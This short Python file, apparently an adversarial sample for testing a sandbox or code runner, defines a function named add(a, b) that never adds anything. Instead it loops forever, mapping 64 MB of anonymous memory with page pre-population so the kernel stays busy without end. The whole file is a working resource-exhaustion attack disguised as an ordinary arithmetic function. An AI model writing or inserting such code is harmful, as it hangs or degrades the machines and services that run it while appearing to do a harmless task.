"""Has the kernel work without end on its behalf."""

KIND = "call"
import mmap


def add(a, b):
    while True:
        with mmap.mmap(-1, 2**26, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x8000):  # all pages at once
            pass
